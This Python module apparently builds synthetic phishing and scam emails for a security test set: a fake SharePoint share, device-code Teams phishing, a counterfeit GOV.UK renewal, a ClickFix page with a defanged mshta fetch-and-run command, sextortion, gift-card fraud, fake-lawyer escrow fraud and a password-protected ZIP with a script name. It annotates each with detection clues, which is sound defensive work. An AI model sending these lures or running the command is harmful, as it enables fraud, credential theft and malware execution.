"""Attack messages, English (8)."""
import base64
import hashlib

from common import M, sysf, alt, plain, mixed, pdf_att, S, BANK, ids, docs, esc
from mime import Bin, Multi, Text
import routes as R


def e_sharepoint():
    rc = S('raman')
    url = 'https://sp-viewer.harcourtlane-docs.workers.dev/?d=Q4-Statement&e=%s' % base64.b64encode(rc[1].encode()).decode()
    text = """Daniel Okafor shared a file with you

Statement of Account Q4 2026 - Example Group UK Ltd.pdf

"Hi Priya, please see the updated statement including the October remittances. Kind regards, Daniel"

Open: %s

This link will only work for the direct recipients of this message.

Microsoft respects your privacy. To learn more, please read our Privacy Statement.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""" % url
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#f8f8f8">
<table role="presentation" width="100%%" cellspacing="0" cellpadding="0" style="background:#f8f8f8"><tr><td align="center" style="padding:20px">
<table role="presentation" width="520" cellspacing="0" cellpadding="0" style="background:#ffffff;font-family:'Segoe UI',Helvetica,Arial,sans-serif;color:#242424">
<tr><td style="padding:24px 24px 0 24px;font-size:21px;line-height:28px">Daniel Okafor shared a file with you</td></tr>
<tr><td style="padding:16px 24px;font-size:14px;color:#424242">&ldquo;Hi Priya, please see the updated statement including the October remittances. Kind regards, Daniel&rdquo;</td></tr>
<tr><td style="padding:4px 24px 16px 24px"><table role="presentation" cellspacing="0" cellpadding="0" style="border:1px solid #e0e0e0;width:100%%"><tr>
<td style="padding:12px;width:32px"><span style="display:inline-block;width:28px;height:32px;background:#c43e1c;color:#fff;font-size:10px;text-align:center;line-height:32px">PDF</span></td>
<td style="padding:12px;font-size:14px;font-weight:600">Statement of Account Q4 2026 - Example Group UK Ltd.pdf</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px"><a href="%s" style="background:#0f6cbd;color:#ffffff;padding:8px 20px;text-decoration:none;font-size:14px;font-weight:600;border-radius:4px;display:inline-block">Open</a></td></tr>
<tr><td style="padding:0 24px 20px 24px;font-size:12px;color:#616161">This link will only work for the direct recipients of this message.</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#707070;border-top:1px solid #eeeeee">Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table></body></html>
""" % url
    return M(lang='en', slug='sharepoint-lure-compromised-tenant', at='2026-11-05 14:22',
             frm=('Daniel Okafor', 'd.okafor@harcourtlane.co.uk'), to=[rc],
             subject='Daniel Okafor shared "Statement of Account Q4 2026 - Example Group UK Ltd" with you',
             sys=sysf(R.exo, srv='LO2P265MB5127', region='GBRP265', obe=('GBR01', 'LO2', 'lo2gbr01', '40.107.20'),
                      lang='en-GB', tz='uk'),
             body=alt(text, 'utf-8', 'quoted-printable', html_text=html, hcte='base64'),
             technique='SharePoint-share lure from a compromised third-party Microsoft 365 tenant, link to Cloudflare Workers',
             what='Looks like a SharePoint "shared a file with you" notice from an accountancy firm',
             why='Comes from a real but unrelated (compromised) M365 tenant; the sender is a person, not no-reply@sharepointonline.com; '
                 '"Open" leads to a workers.dev page with the recipient\'s address base64-encoded (credential phishing kit), not to '
                 '*.sharepoint.com. Genuine share notification: business 10.')


def e_devicecode():
    text = """Hi James,

Thanks for taking my call earlier. As discussed, we'd like to go through the Q1 2027 volumes for shredded steel (E40/E46) and mixed aluminium with you before we finalise our approved supplier list at the end of the month.

I've set up a Teams meeting for tomorrow, Thursday 19 November, 10:30-11:15 (UK time).

Our tenant only admits external guests through Microsoft's secure device sign-in, so to join please:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: HQZ7KM4TB
3. Sign in with your usual work account - you will then be admitted to the lobby.

The code expires after 15 minutes, so best to do it just before we start. If it has run out, just reply and I'll send you a fresh one straight away.

Looking forward to speaking.

Kind regards,

Daniel Royce
Head of Procurement
Northbank Metals Ltd
Unit 3, Riverside Way, Rotherham S60 1BY
+44 1709 218 440
"""
    return M(lang='en', slug='device-code-phishing-teams', at='2026-11-18 15:41',
             frm=('Daniel Royce', 'daniel.royce@northbank-metals.co.uk'), to=[S('whitfield')],
             subject='Teams call tomorrow 10:30 - Q1 2027 volumes',
             sys=sysf(R.exo, srv='AM9PR06MB7731', region='eurprd06', obe=('EUR02', 'AM0', 'am0eur02', '40.107.23'),
                      lang='en-GB', tz='uk'),
             body=alt(text, 'us-ascii', '7bit', 'outlook', lang='EN-GB'),
             technique='Device-code phishing (OAuth device authorisation grant) with a Teams-meeting pretext',
             what='"Buyer" invites to a Teams call and asks to enter a code at microsoft.com/devicelogin',
             why='The link is Microsoft\'s genuine device-login page, so URL checks pass, but the code was generated by the attacker: '
                 'entering it and signing in hands the attacker access/refresh tokens for the victim\'s M365 account. Teams never '
                 'requires a device code to join; newly registered domain on a trial tenant, unsolicited contact.')


def e_ea_renewal():
    url = 'https://renew-waste-carrier-registration.service-gov-uk.com/CBDU318274/start'
    text = """GOV.UK

Renew your waste carrier, broker and dealer registration

Registration number: CBDU318274
Business name: EXAMPLE GROUP UK LTD
Tier: Upper tier
Expiry date: 30 November 2026

Your registration expires in 14 days. If you do not renew it before the expiry date, you will have to stop collecting, transporting, buying, selling or arranging the disposal of waste. Operating without a valid registration is an offence and you may be fined.

The renewal charge is £105. You can pay by debit or credit card.

Renew your registration:
%s

You will need your registration number and a payment card.

Environment Agency
Waste carriers, brokers and dealers
""" % url
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Helvetica,Arial,sans-serif;margin:0;font-size:16px;color:#0b0c0c">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td style="background:#0b0c0c;padding:10px 20px">
<span style="font-size:28px;font-weight:700;color:#ffffff">GOV.UK</span></td></tr></table>
<table width="580" cellpadding="0" cellspacing="0" align="center"><tr><td style="padding:20px 10px">
<h1 style="font-size:27px">Renew your waste carrier, broker and dealer registration</h1>
<table cellpadding="4" style="font-size:16px"><tr><td>Registration number:</td><td><b>CBDU318274</b></td></tr>
<tr><td>Business name:</td><td>EXAMPLE GROUP UK LTD</td></tr><tr><td>Tier:</td><td>Upper tier</td></tr>
<tr><td>Expiry date:</td><td><b>30 November 2026</b></td></tr></table>
<p>Your registration expires in 14 days. If you do not renew it before the expiry date, you will have to stop collecting, transporting, buying, selling or arranging the disposal of waste. Operating without a valid registration is an offence and you may be fined.</p>
<p>The renewal charge is &pound;105. You can pay by debit or credit card.</p>
<p><a href="%s" style="background:#00703c;color:#ffffff;padding:10px 18px;text-decoration:none;font-weight:700;display:inline-block">Renew your registration</a></p>
<p>You will need your registration number and a payment card.</p>
<p>Environment Agency<br>Waste carriers, brokers and dealers</p>
</td></tr></table></body></html>
""" % url
    return M(lang='en', slug='environment-agency-renewal-phish', at='2026-11-16 10:05',
             frm=('Environment Agency', 'waste-carriers@environment-agency-notify.co.uk'),
             env='010201933f1a2b3c-renewals@eu-west-1.amazonses.com'.replace('renewals', 'bounce'),
             to=[S('whitfield')], subject='Your waste carrier registration CBDU318274 expires on 30 November 2026',
             sys=sysf(R.ses, region='eu-west-1'),
             body=alt(text, 'utf-8', 'quoted-printable', html_text=html),
             technique='Regulator impersonation (UK Environment Agency) for card-data phishing',
             what='Fake GOV.UK renewal reminder for the upper-tier waste carrier registration with a card-payment link',
             why='Sender domain environment-agency-notify.co.uk and link host service-gov-uk.com are not gov.uk; real EA reminders '
                 'come via GOV.UK Notify (@notifications.service.gov.uk) and point to www.gov.uk (business 12). Card-payment phishing '
                 'with a fine threat.')


def e_clickfix():
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Secure document - verification</title>
<style>body{font-family:-apple-system,"Segoe UI",Roboto,Arial,sans-serif;background:#f6f6f6;color:#313131;margin:0}
.box{max-width:520px;margin:70px auto;background:#fff;border:1px solid #d9d9d9;padding:28px}
.cf{display:flex;align-items:center;border:1px solid #d9d9d9;padding:14px;background:#fafafa}
.chk{width:24px;height:24px;border:2px solid #8c8c8c;margin-right:12px}
.steps{background:#f2f7ff;border-left:4px solid #1a73e8;padding:12px 16px;margin-top:20px;font-size:15px}
code{display:block;background:#222;color:#ddd;padding:8px;margin-top:8px;font-size:12px;word-break:break-all}
small{color:#8c8c8c}</style></head>
<body><div class="box">
<h2>POD_Weighbridge_Tickets_Oct2026.pdf</h2>
<p>Checking if the connection is secure. This document is protected against automated access.</p>
<div class="cf"><div class="chk"></div><div>Verify you are human</div></div>
<div class="steps"><b>Verification steps</b><br>
1. Press <b>Windows + R</b><br>
2. Press <b>CTRL + V</b> to paste the verification code<br>
3. Press <b>Enter</b> to complete verification<br>
<small>If the code was not copied automatically, copy it from here:</small>
<code>mshta hxxps://cdn-docverify[.]com/ray/8f3a21 # I am not a robot - Verification ID: 7741-2208</code>
</div>
<p><small>Ray ID: 8f3a21c9e04b7d11 &middot; Performance &amp; security by Cloudflare</small></p>
</div></body></html>
"""
    text = """Hi James,

Please find attached the weighbridge tickets and signed PODs for the October skip collections (Tyseley and Small Heath sites). Can you check against your records and let me know if anything is missing before we raise the invoice?

The file opens in your browser.

Many thanks,

Karen Oakley
Accounts
Oakley Skip Hire Ltd
0121 706 5541
"""
    return M(lang='en', slug='clickfix-html-attachment', at='2026-11-10 09:37',
             frm=('Karen Oakley', 'accounts@oakleyskiphire.co.uk'), to=[S('whitfield')],
             subject='October PODs and weighbridge tickets',
             sys=sysf(R.smtp_auth, server='vm4812.cloudhost-uk.net', server_ip='185.24.97.212',
                      client=('[192.168.1.5]', 'unknown', '196.251.72.14'), mta='exim', mua='roundcube', tz='uk'),
             body=mixed(alt(text, 'us-ascii', '7bit', 'simple'),
                        Text(page, 'html', 'utf-8', 'base64',
                             disp='attachment; filename="POD_Weighbridge_Tickets_Oct2026.html"', params='name="POD_Weighbridge_Tickets_Oct2026.html"')),
             technique='ClickFix: HTML attachment with fake CAPTCHA telling the user to paste a command into Win+R',
             what='"Skip-hire company" sends PODs as an HTML file that shows a fake Cloudflare check with Win+R instructions',
             why='Documents do not need "human verification"; the page instructs the user to run an mshta command (defanged here) '
                 'via Win+R = malware execution by the user. Compromised hosting mailbox used from an unrelated foreign IP.')


def e_sextortion():
    addr = ids.bech32_segwit('bc', 0, hashlib.sha256(b'audit55-extortion').digest()[:20])
    text = """Hello James,

I'll get straight to the point. I know about the things you get up to online, and I have the proof.

A few months ago I got access to the devices you use to browse the internet, through a vulnerability in the router firmware your mail provider never fixed. Since then I have been watching. The software I installed turns on the camera and microphone whenever you visit certain websites - you can probably guess which ones.

I made a split-screen video: on one side what you were watching, on the other side you. I also copied your contacts, your mailbox and your social media connections.

Here is the deal. Transfer 1450 USD in Bitcoin to this wallet:

%s

(if you don't know how, type "buy bitcoin" into Google - it is easy.)

You have 48 hours from the moment you open this email. I get a notification when you read it. Once the payment arrives I will delete everything and you will never hear from me again. If I don't get it, the video goes to all your colleagues, family and friends.

Don't reply to this email, it is sent from your own account, and don't bother going to the police - nobody can trace this wallet.
""" % addr
    rc = S('whitfield')
    return M(lang='en', slug='sextortion-bitcoin', at='2026-12-02 03:14',
             frm=(None, rc[1]), env=rc[1], to=[(None, rc[1])], subject='James, your account was compromised - read carefully',
             sys=sysf(R.botnet, helo='example.com', ip='113.161.54.219', msgid_dom='example.com'),
             body=plain(text, 'us-ascii', '7bit'),
             technique='Sextortion / extortion with a Bitcoin (bech32) wallet, spoofed own address',
             what='Claims of a hacked device and compromising video; demands USD 1,450 in Bitcoin within 48 h',
             why='Mass extortion scam: From/envelope spoof the recipient\'s own address, delivered directly from a Vietnamese '
                 'consumer IP without rDNS that HELOs as "example.com"; bitcoin address, deadline, threats; no real compromise.')


def e_giftcards():
    text = """Priya,

Are you at your desk? I need a quick favour. We want to send a thank-you to a few of the council contacts and two of our regular drivers before Christmas and I'd like to get it sorted today.

Can you pick up some Apple gift cards (8 x £100) on your way out at lunch? I'm stuck in back-to-back meetings at the council offices and can't take calls. Scratch off the backs and send me clear photos of the codes here, I'll forward them on. You can put it through as an expense and I'll sign it off.

Thanks
James

Sent from my iPhone
"""
    return M(lang='en', slug='gift-card-request-freemail', at='2026-12-08 11:52',
             frm=('James Whitfield', 'j.whitfield.exgroup@outlook.com'), to=[S('raman')],
             subject='Quick favour',
             sys=sysf(R.outlook_consumer, tz='uk', lang='en-GB'),
             body=alt(text, 'iso-8859-1', 'quoted-printable', 'outlook', lang='EN-GB'),
             technique='Gift-card scam impersonating the office manager from a free Outlook.com account',
             what='"Office manager" asks the UK accountant to buy GBP 800 of Apple gift cards and send the codes',
             why='Outlook.com address with the manager\'s name instead of @example.com; unusual purchase, photo of scratched codes, '
                 'can\'t take calls, expense-it-later: classic gift-card fraud.')


def e_lawyer():
    iban = BANK['lawyer_scam']
    text = """Dear Ms Weiß,

I write further to Dr Köhler's message earlier today. Our firm has been retained by Example Group GmbH in connection with the proposed acquisition of a majority interest in Van Dijk Metaalrecycling B.V. (internally "Project Maas").

As Dr Köhler will have explained, the sellers have agreed to grant exclusivity until 31 January 2027 subject to a refundable security deposit of EUR 487,300.00 being received in our client account by 12:00 CET tomorrow. The deposit is held in escrow under Dutch law and will be credited against the purchase price at completion.

Client account details:

Account name: Hartley Quinn LLP - Client Escrow Account
Bank: ABN AMRO Bank N.V., Amsterdam
IBAN: %s
BIC: ABNANL2A
Reference: PM-2026-1015 / Example Group

Because the transaction is price-sensitive, we must ask that this matter is not discussed with anyone other than Dr Köhler and myself until the announcement. Please e-mail me the bank's payment confirmation (MT103) as soon as the transfer has been released, so that I can notify the sellers' counsel.

I am available by e-mail throughout this evening.

Yours sincerely,

Edward Hartley
Partner, Corporate M&A
Hartley Quinn LLP
30 St Mary Axe, London EC3A 8BF

This e-mail is confidential and may be legally privileged. If you have received it in error, please notify the sender and delete it.
""" % ids.fmt_iban(iban)
    return M(lang='en', slug='fake-lawyer-escrow-followup', at='2026-10-15 17:09',
             frm=('Edward Hartley', 'e.hartley@hartleyquinn-llp.com'), to=[S('weiss')],
             subject='Project Maas - security deposit / strictly confidential', hcs='utf-8', henc='Q',
             sys=sysf(R.privateemail, tz='uk'),
             body=alt(text, 'utf-8', 'quoted-printable', 'tb'),
             technique='Fake lawyer (BEC stage 2) with escrow-account transfer request, follows the CEO-fraud mail',
             what='"Lawyer" supplies escrow account details for the EUR 487,300 deposit announced by the fake CEO mail',
             why='Second stage of attack 01: newly registered law-firm look-alike on Namecheap Private Email, sent from a Nigerian '
                 'mobile IP; secrecy, same-day deadline, asks for MT103; the company has no such transaction and its real law firm '
                 'correspondence (business 16) carries no payment demands.')


def e_zip():
    pw = 'RA2611'
    z = docs.zip_crypto([('Remittance_Advice_06-11-2026.pdf.js', b'// inert placeholder - evaluation sample, contains no code\n')],
                        pw, dt=(2026, 11, 6, 8, 41, 12), seed='zip-en')
    text = """Good morning,

Please find attached our remittance advice for the payment made today against your recent invoices (BACS, value date 06/11/2026).

For data protection the document is password protected.
Password: RA2611

If you have any questions regarding allocation please contact our accounts team.

Kind regards

Sarah Bennett
Purchase Ledger
Caldwell Plant Hire Ltd
Tel: 01902 443 118
"""
    return M(lang='en', slug='password-zip-remittance', at='2026-11-06 08:44',
             frm=('Sarah Bennett', 'accounts@caldwellplanthire.co.uk'), to=[S('raman')],
             subject='Remittance Advice - Payment 06/11/2026', zip_pw=pw,
             sys=sysf(R.smtp_auth, server='cp-uk41.webhostbox.co.uk', server_ip='77.68.119.40',
                      client=('[127.0.0.1]', 'unknown', '91.92.251.103'), mta='exim', mua='outlook', tz='uk', lang='en-GB'),
             body=mixed(alt(text, 'windows-1252', 'quoted-printable', 'outlook', lang='EN-GB'),
                        Bin(z, 'application/x-zip-compressed', 'Remittance_Advice_06-11-2026.zip')),
             technique='Password-protected ZIP (ZipCrypto) with script payload, remittance-advice lure',
             what='"Remittance advice" from an unknown plant-hire firm in an encrypted ZIP with the password in the body',
             why='No business relationship with the sender; encryption only serves to blind scanners; the archive holds '
                 '"...pdf.js" (double extension script) - a malware dropper pattern. Genuine remittances (business 15) are plain PDFs.')


def messages():
    return [e_sharepoint(), e_devicecode(), e_ea_renewal(), e_clickfix(), e_sextortion(), e_giftcards(), e_lawyer(), e_zip()]
